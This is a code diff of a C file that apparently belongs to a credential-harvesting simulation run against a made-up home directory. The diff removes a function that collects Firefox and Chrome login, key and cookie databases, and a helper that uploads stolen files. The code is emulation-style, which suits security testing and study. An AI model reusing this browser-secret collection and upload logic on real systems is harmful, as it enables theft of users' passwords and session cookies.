@@ -1,7 +1,5 @@
 /* Credential access and collection from the made-up home; see steal.py. */
 
-static const uint64_t WIRE = 0x77697265;
-
 static list stage(list paths, const char *place)
 {
     list copies = {0};
@@ -12,17 +10,6 @@ static list stage(list paths, const char *place)
     }
     return copies;
 }
-
-static list browser_files(void)
-{
-    list all = files_of(".mozilla .config/google-chrome", NULL, 1), out = {0};
-    for (int i = 0; i < all.n; i++)
-        if (strstr("/logins.json/key4.db/cookies.sqlite/Login Data/Cookies/Web Data/", text("/%s/", base(all.at[i]))))
-            push(&out, all.at[i]);
-    return out;
-}
-
-static void send_secret(const char *path, const char *name) { upload(stream(WIRE, read_file(path)), name); }
 
 JOB(harvest_credentials)
 {
